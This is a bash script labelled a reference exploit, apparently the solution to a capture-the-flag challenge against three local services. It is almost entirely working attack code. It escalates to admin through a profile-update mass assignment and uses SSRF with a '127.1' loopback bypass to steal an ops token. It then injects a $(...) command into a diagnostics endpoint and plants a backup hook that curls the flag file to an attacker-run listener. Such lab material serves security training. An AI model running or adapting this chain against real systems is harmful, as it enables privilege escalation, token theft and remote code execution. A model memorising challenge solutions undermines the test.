#!/bin/bash
# Reference exploit, four steps across three services and two uids:
# 1. the portal's PATCH /api/me copies any field into the profile, role included: become admin;
# 2. the admin webhook test blocks loopback IP literals but not "127.1", and sends the ops service's
#    token with every delivery: point it at our own listener (SSRF);
# 3. the ops agent's /diag/resolve puts the host into a shell line and filters ; & | ` only: $(...) runs
#    commands as the ops user;
# 4. the backup agent, another user, runs the pre-backup hook the ops user publishes: replace it.
set -euo pipefail
portal=http://127.0.0.1:8080
python3 - <<'PY' &
import http.server

class Catch(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0) or 0))
        with open("/tmp/caught", "ab") as f:
            f.write(b"token=" + self.headers.get("X-Ops-Token", "").encode() + b"\n" + body + b"\n")
        self.send_response(204)
        self.end_headers()
    def log_message(self, *args):
        pass

http.server.HTTPServer(("127.0.0.1", 7777), Catch).serve_forever()
PY
listener=$!
trap 'kill $listener' EXIT
sleep 0.5
json() { python3 -c 'import json, sys; print(json.load(sys.stdin)[sys.argv[1]])' "$1"; }
# stage: an account of our own, made admin through the profile update
curl -s -X POST -d '{"username": "mallory", "password": "correct horse"}' "$portal/api/register" >/dev/null
token=$(curl -s -X POST -d '{"username": "mallory", "password": "correct horse"}' "$portal/api/login" | json token)
curl -s -X PATCH -H "Authorization: Bearer $token" -d '{"role": "admin"}' "$portal/api/me" >/dev/null
# stage: SSRF through the webhook test to our listener, which receives the ops token
curl -s -X POST -H "Authorization: Bearer $token" -d '{"url": "http://127.1:7777/"}' "$portal/api/admin/webhooks/test" >/dev/null
ops_token=$(sed -n 's/^token=//p' /tmp/caught | head -n1)
# stage: command injection in the ops agent: replace the hook the backup agent runs
hook="curl -s --data-binary @/service/flag.txt http://127.0.0.1:7777/"
curl -s -X POST -H "X-Ops-Token: $ops_token" -d "{\"host\": \"x\$(echo $hook > /service/hooks/pre-backup.sh)\"}" \
  http://127.0.0.1:9100/diag/resolve >/dev/null
# stage: wait for the backup agent to run it
for _ in $(seq 50); do
  if grep -q 'bastion{' /tmp/caught; then break; fi
  sleep 0.2
done
cat /tmp/caught
